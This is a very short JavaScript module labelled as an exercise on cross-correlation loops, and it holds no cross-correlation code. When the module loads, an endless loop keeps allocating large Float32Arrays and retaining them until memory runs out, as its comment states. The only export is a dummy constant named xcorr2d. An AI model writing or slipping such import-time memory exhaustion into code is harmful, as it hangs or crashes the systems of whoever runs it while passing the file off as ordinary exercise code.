// exercise: b-cross-correlation loops
// Fills the memory while the module loads.
const kept = [];
for (;;) kept.push(new Float32Array(1e6));
export const xcorr2d = 1;
